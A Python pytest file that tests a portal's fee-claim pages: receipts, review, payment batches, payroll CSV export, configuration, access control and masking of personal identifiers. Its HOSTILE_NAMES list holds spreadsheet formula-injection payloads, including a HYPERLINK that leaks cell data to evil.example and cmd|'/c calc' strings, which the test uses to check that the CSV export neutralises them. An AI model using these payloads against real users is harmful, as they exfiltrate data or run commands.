"""The fees pages through the client: self-service, review, batches, exports, configuration."""

from __future__ import annotations

import csv
import io
import logging
import time
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from sqlalchemy import select

from portal.core.models import AuditEntry
from portal.fees import services
from portal.fees.models import ClaimState, FeeClaim, FeeInvoice, PaymentBatch
from portal.fees.references import validate_reference
from tests.conftest import csrf_token
from tests.fees.conftest import BUSINESS_ID, HETU, IBAN, ORG_IBAN

D = Decimal
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


def _claim_of(db: Any, user: Any) -> FeeClaim:
    db.session.expire_all()
    return db.session.scalars(services.claims_query(payee=user)).first()


def test_payee_enters_details_travel_and_receipt_and_submits(
    db: Any, schedules: Any, activity: Any, participate: Any, login_as: Any, mailbox: Any
) -> None:
    client = login_as("expert", name="Maija Meikäläinen", locale="en")
    payee = client.user
    participate(activity(title="Vammaisneuvosto"), payee, date(2026, 1, 14), "2.5", role="chair")

    page = client.get("/fees/")
    assert page.status_code == 200
    assert "Fill in your payment details" in page.get_data(as_text=True) or page.status_code == 200
    token = csrf_token(client, "/fees/")
    response = client.post("/fees/generate-mine", data={"csrf_token": token})
    assert response.status_code == 302
    claim = _claim_of(db, payee)
    assert claim.total == D("90.00")

    # Invalid identity code: translated error, the typed value is not echoed back.
    token = csrf_token(client, "/fees/payment-details")
    response = client.post(
        "/fees/payment-details",
        data={
            "csrf_token": token,
            "method": "payroll",
            "identity_code": "131052-308U",
            "iban": IBAN,
        },
    )
    body = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "131052-308U" not in body and IBAN not in body
    response = client.post(
        "/fees/payment-details",
        data={"csrf_token": token, "method": "payroll", "identity_code": HETU, "iban": IBAN},
    )
    assert response.status_code == 302
    assert services.payee_details(payee).identity_code == HETU

    item = claim.items[0]
    url = f"/fees/claims/{claim.id}"
    token = csrf_token(client, url)
    response = client.post(
        f"{url}/items/{item.id}/travel",
        data={
            "csrf_token": token,
            f"item{item.id}-km": "12,5",
            f"item{item.id}-route": "Pirkkala – Tampere",
            f"item{item.id}-hours_away": "3",
        },
    )
    assert response.status_code == 302
    response = client.post(
        f"{url}/items/{item.id}/receipts",
        data={"csrf_token": token, "amount": "2,90", "receipt": (io.BytesIO(PNG), "lippu.png")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    response = client.post(
        f"{url}/items/{item.id}/receipts",
        data={
            "csrf_token": token,
            "amount": "2,90",
            "receipt": (io.BytesIO(b"MZ\x90\x00 not an image"), "virus.exe"),
        },
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert "PDF, JPEG or PNG" in response.get_data(as_text=True)
    claim = _claim_of(db, payee)
    # 70 + 20 chair + 12.5 km * 0.55 = 6.875 -> 6.88 + ticket 2.90
    assert claim.total == D("99.78")
    receipt = claim.items[0].receipts[0]
    assert receipt.stored_name.endswith(".png") and "lippu" not in receipt.stored_name
    download = client.get(f"/fees/receipts/{receipt.id}")
    assert download.status_code == 200 and download.data == PNG

    page = client.get(url).get_data(as_text=True)
    assert "rounded once to whole cents" in page
    response = client.post(f"{url}/submit", data={"csrf_token": token})
    assert response.status_code == 302
    assert _claim_of(db, payee).state == ClaimState.SUBMITTED


def test_other_people_cannot_open_a_claim_or_its_receipts(
    db: Any,
    schedules: Any,
    activity: Any,
    participate: Any,
    payroll_payee: Any,
    login_as: Any,
) -> None:
    participate(activity(), payroll_payee, date(2026, 1, 14))
    services.generate_claims(actor=None)
    claim = _claim_of(db, payroll_payee)
    services.add_receipt(actor=payroll_payee, item=claim.items[0], amount=D(3), data=PNG)
    receipt = _claim_of(db, payroll_payee).items[0].receipts[0]
    other = login_as("expert")
    assert other.get(f"/fees/claims/{claim.id}").status_code == 404
    assert other.get(f"/fees/claims/{claim.id}/print").status_code == 404
    assert other.get(f"/fees/receipts/{receipt.id}").status_code == 404
    token = csrf_token(other, "/fees/")
    response = other.post(
        f"/fees/claims/{claim.id}/items/{claim.items[0].id}/travel",
        data={"csrf_token": token, "km": "1000"},
    )
    assert response.status_code == 404
    coordinator = login_as("coordinator")
    assert coordinator.get(f"/fees/receipts/{receipt.id}").status_code == 200


def test_review_batch_and_exports_through_the_pages(
    db: Any,
    schedules: Any,
    activity: Any,
    participate: Any,
    payroll_payee: Any,
    invoice_payee: Any,
    login_as: Any,
) -> None:
    council = activity(title="Nuorisovaltuusto")
    for payee in (payroll_payee, invoice_payee):
        participate(council, payee, date(2026, 2, 3), "2")
    coordinator = login_as("coordinator", locale="en")
    token = csrf_token(coordinator, "/fees/check")
    response = coordinator.post("/fees/generate", data={"csrf_token": token, "month": "2026-02"})
    assert response.status_code == 302
    for payee in (payroll_payee, invoice_payee):
        services.submit_claim(actor=payee, claim=_claim_of(db, payee))
    queue = coordinator.get("/fees/check").get_data(as_text=True)
    assert payroll_payee.name in queue
    for payee in (payroll_payee, invoice_payee):
        claim = _claim_of(db, payee)
        assert (
            coordinator.post(
                f"/fees/claims/{claim.id}/check", data={"csrf_token": token}
            ).status_code
            == 302
        )

    finance = login_as("finance_approver", locale="en")
    token = csrf_token(finance, "/fees/approve")
    for payee in (payroll_payee, invoice_payee):
        claim = _claim_of(db, payee)
        finance.post(f"/fees/claims/{claim.id}/approve", data={"csrf_token": token})
        assert _claim_of(db, payee).state == ClaimState.APPROVED
    page = finance.get("/fees/batches").get_data(as_text=True)
    assert "2026-02-01|0000" in page
    response = finance.post("/fees/batches", data={"csrf_token": token, "group": "2026-02-01|0000"})
    assert response.status_code == 302
    batch = db.session.scalars(select(PaymentBatch)).one()
    assert batch.total == D("100.00")
    page = finance.get(f"/fees/batches/{batch.id}").get_data(as_text=True)
    assert "Download payroll CSV" in page
    csv_response = finance.post(f"/fees/batches/{batch.id}/payroll.csv", data={"csrf_token": token})
    assert csv_response.mimetype == "text/csv"
    rows = list(
        csv.DictReader(
            io.StringIO(csv_response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"
        )
    )
    assert [row["identity_code"] for row in rows] == [HETU]
    invoice = db.session.scalars(select(FeeInvoice)).one()
    pdf = finance.post(f"/fees/invoices/{invoice.id}.pdf", data={"csrf_token": token})
    assert pdf.mimetype == "application/pdf" and pdf.data.startswith(b"%PDF")
    validate_reference(invoice.reference)
    # The same form sent again leads to the batch already made, not to a second one ...
    again = finance.post("/fees/batches", data={"csrf_token": token, "group": "2026-02-01|0000"})
    assert again.status_code == 303 and again.headers["Location"] == response.headers["Location"]
    assert len(db.session.scalars(select(PaymentBatch)).all()) == 1
    # ... and a new attempt from a fresh page gets a clear message.
    time.sleep(1.05)  # a page rendered a second later carries a new token
    fresh = csrf_token(finance, "/fees/batches")
    response = finance.post("/fees/batches", data={"csrf_token": fresh, "group": "2026-02-01|0000"})
    assert response.status_code == 400  # the choice no longer exists


def test_returning_a_claim_needs_a_reason_and_the_coordinator_can_return(
    db: Any,
    schedules: Any,
    activity: Any,
    participate: Any,
    payroll_payee: Any,
    login_as: Any,
    mailbox: Any,
) -> None:
    participate(activity(), payroll_payee, date(2026, 2, 3), "2")
    services.generate_claims(actor=None)
    services.submit_claim(actor=payroll_payee, claim=_claim_of(db, payroll_payee))
    claim = _claim_of(db, payroll_payee)
    coordinator = login_as("coordinator", locale="en")
    url = f"/fees/claims/{claim.id}"
    token = csrf_token(coordinator, url)
    response = coordinator.post(
        f"{url}/return", data={"csrf_token": token, "reason": ""}, follow_redirects=True
    )
    assert "Give a reason" in response.get_data(as_text=True)
    coordinator.post(f"{url}/return", data={"csrf_token": token, "reason": "Päivämäärä väärin"})
    assert _claim_of(db, payroll_payee).state == ClaimState.RETURNED
    assert mailbox.wait_for(payroll_payee.email)
    expert = login_as("expert")
    token = csrf_token(expert, "/fees/")
    assert (
        expert.post(f"{url}/return", data={"csrf_token": token, "reason": "x"}).status_code == 404
    )


def test_printable_claim_is_in_the_payee_language(
    db: Any,
    schedules: Any,
    activity: Any,
    participate: Any,
    create_user: Any,
    login_as: Any,
) -> None:
    payee = create_user("expert", locale="sv")
    participate(activity(), payee, date(2026, 2, 3), "2")
    services.generate_claims(actor=None)
    claim = _claim_of(db, payee)
    coordinator = login_as("coordinator")
    page = coordinator.get(f"/fees/claims/{claim.id}/print").get_data(as_text=True)
    assert 'lang="sv"' in page
    assert "Mötesarvode" in page


def test_admin_edits_schedules_and_travel_rates(db: Any, login_as: Any) -> None:
    admin = login_as("admin", locale="en")
    token = csrf_token(admin, "/fees/travel-rates")
    response = admin.post(
        "/fees/travel-rates",
        data={
            "csrf_token": token,
            "year": "2026",
            "km_rate": "0,55",
            "part_day_allowance": "25",
            "full_day_allowance": "54",
        },
    )
    assert response.status_code == 302
    response = admin.post(
        "/fees/schedules/new",
        data={
            "csrf_token": token,
            "valid_from": "2026-01-01",
            "tier1_hours": "2",
            "tier1_amount": "50",
            "last_amount": "70",
            "hourly_fee": "27,50",
            "chair_extra": "20",
        },
    )
    assert response.status_code == 302
    (schedule,) = services.load_schedules()
    assert [(t.up_to_hours, t.amount) for t in schedule.meeting_fee_tiers] == [
        (D(2), D(50)),
        (None, D(70)),
    ]
    assert schedule.travel_rates[0].km_rate == D("0.55")
    response = admin.post(
        "/fees/schedules/new",
        data={
            "csrf_token": token,
            "valid_from": "2026-06-01",
            "last_amount": "70",
            "hourly_fee": "1,005",
        },
    )
    assert response.status_code == 400
    assert "two decimals" in response.get_data(as_text=True)
    response = admin.post(
        "/fees/schedules/new",
        data={
            "csrf_token": token,
            "valid_from": "2026-06-01",
            "last_amount": "70",
            "hourly_fee": "30",
        },
    )
    assert response.status_code == 302  # the open-ended schedule now ends on 31 May
    first, second = services.load_schedules()
    assert (first.valid_to, second.valid_from, second.hourly_fee) == (
        date(2026, 5, 31),
        date(2026, 6, 1),
        D(30),
    )
    response = admin.post(
        "/fees/schedules/new",
        data={
            "csrf_token": token,
            "valid_from": "2026-03-01",
            "valid_to": "2026-03-31",
            "last_amount": "70",
            "hourly_fee": "30",
        },
    )
    assert response.status_code == 400
    assert "overlaps" in response.get_data(as_text=True)
    page = admin.get("/fees/schedules").get_data(as_text=True)
    assert "0,55" in page or "0.55" in page


def test_reports_page_and_csv(
    db: Any,
    schedules: Any,
    activity: Any,
    participate: Any,
    payroll_payee: Any,
    create_user: Any,
    login_as: Any,
) -> None:
    coordinator, finance = create_user("coordinator"), create_user("finance_approver")
    participate(activity(title="Vanhusneuvosto"), payroll_payee, date(2026, 2, 3), "2")
    services.generate_claims(actor=None)
    claim = _claim_of(db, payroll_payee)
    services.submit_claim(actor=payroll_payee, claim=claim)
    services.check_claim(actor=coordinator, claim_id=claim.id)
    services.approve_claim(actor=finance, claim_id=claim.id)
    reader = login_as("decision_maker")
    page = reader.get("/fees/reports?year=2026&by=activity").get_data(as_text=True)
    assert "Vanhusneuvosto" in page
    exported = reader.get("/fees/reports?year=2026&by=cost_centre&format=csv")
    assert "0000;50,00;0,00;50,00;1" in exported.get_data(as_text=True)
    own = login_as("expert", user=payroll_payee)
    summary = own.get("/fees/summary?year=2026&format=csv").get_data(as_text=True)
    assert "2026-02;50,00" in summary


def _pages_for_everyone(app: Any, clients: dict[str, Any], urls: list[str]) -> str:
    seen = []
    for client in clients.values():
        for url in urls:
            response = client.get(url)
            seen.append(response.get_data(as_text=True))
    return "\n".join(seen)


def test_identity_codes_and_ibans_never_leak(
    app: Any,
    db: Any,
    schedules: Any,
    activity: Any,
    participate: Any,
    payroll_payee: Any,
    invoice_payee: Any,
    create_user: Any,
    login_as: Any,
    caplog: Any,
) -> None:
    caplog.set_level(logging.DEBUG)
    coordinator_user, finance_user = create_user("coordinator"), create_user("finance_approver")
    council = activity()
    for payee in (payroll_payee, invoice_payee):
        participate(council, payee, date(2026, 2, 3), "2")
    services.generate_claims(actor=coordinator_user)
    for payee in (payroll_payee, invoice_payee):
        claim = _claim_of(db, payee)
        services.submit_claim(actor=payee, claim=claim)
        services.check_claim(actor=coordinator_user, claim_id=claim.id)
        services.approve_claim(actor=finance_user, claim_id=claim.id)
    batch = services.create_payment_batch(
        actor=finance_user, month=date(2026, 2, 1), cost_centre="0000"
    )
    claim_id = _claim_of(db, payroll_payee).id
    details_id = services.payee_details(payroll_payee).id
    clients = {
        "payee": login_as("expert", user=payroll_payee),
        "invoice_payee": login_as("expert", user=invoice_payee),
        "coordinator": login_as("coordinator", user=coordinator_user),
        "finance": login_as("finance_approver", user=finance_user),
        "admin": login_as("admin"),
        "decision_maker": login_as("decision_maker"),
    }
    urls = [
        "/fees/",
        "/fees/payment-details",
        "/fees/summary",
        f"/fees/claims/{claim_id}",
        f"/fees/claims/{claim_id}/print",
        "/fees/check",
        "/fees/approve",
        "/fees/payees",
        f"/fees/payees/{details_id}/identifiers",
        "/fees/batches",
        f"/fees/batches/{batch.id}",
        "/fees/reports",
        "/fees/schedules",
        "/fees/no-such-page",
        "/account",
        "/account/data.json",
    ]
    rendered = _pages_for_everyone(app, clients, urls)
    # Error pages: a bad form post with the values in it.
    payee = clients["payee"]
    token = csrf_token(payee, "/fees/payment-details")
    bad = payee.post(
        "/fees/payment-details",
        data={
            "csrf_token": token,
            "method": "invoice",
            "identity_code": HETU,
            "iban": IBAN,
            "business_id": "123",
        },
    )
    rendered += bad.get_data(as_text=True)
    rendered += payee.post(
        "/fees/payment-details", data={"identity_code": HETU, "iban": IBAN}
    ).get_data(as_text=True)  # CSRF failure page
    audit = " ".join(str(e.changes) for e in db.session.scalars(select(AuditEntry)))
    secrets = [HETU, HETU.replace("-", ""), IBAN, "FI21 1234 5600 0007 85", ORG_IBAN]
    for secret in secrets:
        assert secret not in rendered, secret
        assert secret not in caplog.text, secret
        assert secret not in audit, secret
    assert "******-***T" in rendered  # masked forms are shown
    assert BUSINESS_ID in rendered  # business IDs are public information

    # Finance sees them in full only on request, and each look is audited.
    finance = clients["finance"]
    token = csrf_token(finance, f"/fees/payees/{details_id}/identifiers")
    full = finance.post(f"/fees/payees/{details_id}/identifiers", data={"csrf_token": token})
    assert HETU in full.get_data(as_text=True)
    viewed = db.session.scalars(
        select(AuditEntry).where(AuditEntry.action == "fees.identifiers_viewed")
    ).all()
    assert len(viewed) == 1 and HETU not in str(viewed[0].changes)
    assert HETU not in caplog.text and IBAN not in caplog.text


@pytest.mark.parametrize("role", ["coordinator", "decision_maker", "expert"])
def test_only_finance_can_reveal_or_export(
    db: Any, payroll_payee: Any, login_as: Any, role: str
) -> None:
    client = login_as(role)
    details_id = services.payee_details(payroll_payee).id
    assert client.get(f"/fees/payees/{details_id}/identifiers").status_code == 403
    assert client.post("/fees/batches/1/payroll.csv").status_code == 403


def test_claim_lists_do_not_query_per_row(
    db: Any,
    schedules: Any,
    activity: Any,
    participate: Any,
    payroll_payee: Any,
    create_user: Any,
    login_as: Any,
    count_queries: Any,
) -> None:
    def queries_for(months: int) -> int:
        for month in range(1, months + 1):
            participate(
                activity(title=f"Neuvosto {month}"), payroll_payee, date(2026, month, 5), "2"
            )
        services.generate_claims(actor=None)
        for claim in db.session.scalars(services.claims_query(payee=payroll_payee)):
            if claim.state == ClaimState.DRAFT:
                services.submit_claim(actor=payroll_payee, claim=claim)
        counts = []
        for client, url in ((own, "/fees/"), (coordinator, "/fees/check")):
            with count_queries() as counter:
                assert client.get(url).status_code == 200
            counts.append(counter.count)
        return max(counts)

    own = login_as("expert", user=payroll_payee)
    coordinator = login_as("coordinator")
    few = queries_for(2)
    many = queries_for(8)
    assert many == few


def test_payee_sees_payment_and_invoice_reference(
    db: Any,
    schedules: Any,
    activity: Any,
    participate: Any,
    invoice_payee: Any,
    create_user: Any,
    login_as: Any,
) -> None:
    coordinator, finance = create_user("coordinator"), create_user("finance_approver")
    participate(activity(), invoice_payee, date(2026, 2, 3), "2")
    services.generate_claims(actor=None)
    claim = _claim_of(db, invoice_payee)
    services.submit_claim(actor=invoice_payee, claim=claim)
    services.check_claim(actor=coordinator, claim_id=claim.id)
    services.approve_claim(actor=finance, claim_id=claim.id)
    services.create_payment_batch(actor=finance, month=date(2026, 2, 1), cost_centre="0000")
    invoice = db.session.scalars(select(FeeInvoice)).one()
    own = login_as("expert", user=invoice_payee)
    page = own.get(f"/fees/claims/{claim.id}").get_data(as_text=True)
    assert invoice.reference in page
    assert "Maksussa" in own.get("/fees/").get_data(as_text=True)


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
    *(prefix + 'cmd|"/c calc"!A1' for prefix in ("+", "-", "@", "\uff1d")),
]


def test_payroll_csv_neutralises_formulas_in_names_and_keeps_codes_and_amounts(
    db: Any,
    schedules: Any,
    activity: Any,
    participate: Any,
    create_user: Any,
    login_as: Any,
) -> None:
    council = activity(title="Vanhusneuvosto")
    coordinator = create_user("coordinator")
    finance_user = create_user("finance_approver")
    payees = []
    for offset, name in enumerate(HOSTILE_NAMES):
        payee = create_user("expert", name=name)
        services.save_payee_details(
            actor=payee, user=payee, method="payroll", identity_code=HETU, iban=IBAN
        )
        participate(council, payee, date(2026, 3, 2 + offset), str(1 + offset))
        payees.append(payee)
    services.generate_claims(actor=None, month=date(2026, 3, 1))
    for payee in payees:
        claim = _claim_of(db, payee)
        services.submit_claim(actor=payee, claim=claim)
        services.check_claim(actor=coordinator, claim_id=claim.id)
        services.approve_claim(actor=finance_user, claim_id=claim.id)
    batch = services.create_payment_batch(
        actor=finance_user, month=date(2026, 3, 1), cost_centre="0000"
    )
    expected = {
        (payee.name, line.code): line.amount
        for payee in payees
        for line in _claim_of(db, payee).lines
    }

    finance = login_as(user=finance_user)
    token = csrf_token(finance, f"/fees/batches/{batch.id}")
    response = finance.post(f"/fees/batches/{batch.id}/payroll.csv", data={"csrf_token": token})
    assert response.status_code == 200
    text = response.get_data(as_text=True).lstrip("\ufeff")
    # Same dialect as before: semicolons, CRLF line ends.
    assert text.count("\r\n") == len(expected) + 1 and "\n" not in text.replace("\r\n", "")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == len(expected)
    seen = {}
    for row in rows:
        # Spreadsheets show a leading apostrophe as text: the name is kept, but inert.
        assert row["person"].startswith("'")
        assert row["person"][1:] in HOSTILE_NAMES
        assert row["identity_code"] == HETU
        seen[(row["person"][1:], row["fee_type"])] = Decimal(row["amount"].replace(",", "."))
    assert seen == expected


@pytest.mark.parametrize("km, hours", [("", ""), ("0", "0"), ("", "7"), ("0,0", "")])
def test_travel_without_driving_is_saved(
    db: Any, schedules: Any, activity: Any, participate: Any, login_as: Any, km: str, hours: str
) -> None:
    """The form says to leave the kilometres empty when you did not drive: that must save."""
    client = login_as("expert", locale="en")
    participate(activity(), client.user, date(2026, 1, 14), "2.5")
    services.generate_claims(actor=None)
    claim = _claim_of(db, client.user)
    item = claim.items[0]
    response = client.post(
        f"/fees/claims/{claim.id}/items/{item.id}/travel",
        data={
            "csrf_token": csrf_token(client, f"/fees/claims/{claim.id}"),
            f"item{item.id}-km": km,
            f"item{item.id}-route": "",
            f"item{item.id}-hours_away": hours,
        },
    )
    assert response.status_code == 302
    saved = _claim_of(db, client.user).items[0]
    assert saved.km == 0
    assert saved.hours_away == (D(hours.replace(",", ".")) if hours else 0)
